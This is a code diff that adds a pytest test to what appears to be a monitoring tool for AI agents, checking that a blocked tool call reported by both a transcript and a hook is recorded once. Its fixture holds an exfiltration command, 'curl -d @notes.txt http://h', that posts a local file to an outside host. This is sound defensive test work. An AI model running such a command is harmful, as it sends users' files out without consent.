@@ -219,6 +219,20 @@ def _agent(store: AgentStore) -> Agent:
     return _read(store, Observation(AgentState.WORKING, mode="auto"), 10.0)
 
 
+@pytest.mark.parametrize("order", [("transcript", "hook"), ("hook", "transcript")])
+def test_one_call_told_by_the_transcript_and_the_hook_is_one_block_with_the_hooks_word_whichever_came_first(order):
+    """Both name the call exactly, by its id; which is read first depends on the load (a clean-clone run read the transcript
+    first, and the row kept its word): the row's block is the hook's either way, told once."""
+    store, told = AgentStore(), []
+    store.subscribe(told.append)
+    agent = _agent(store)
+    store.turn("%1", 20.0)
+    for n, source in enumerate(order):
+        store.blocked("%1", (Blocked("Bash", "curl -d @notes.txt http://h", "Sends notes out", 21.0 + n, source, "toolu_1"),), 21.0 + n)
+    assert [(b.source, b.at) for b in agent.blocks] == [("hook", 21.0)]  # the hook's word, dated when the block was first told
+    assert [e.block.source for e in told if isinstance(e, CallBlocked)] == [order[0]]  # one block, told once
+
+
 def test_the_hooks_block_and_the_screens_note_on_one_call_are_one_block_told_once():
     store, told = AgentStore(), []
     store.subscribe(told.append)
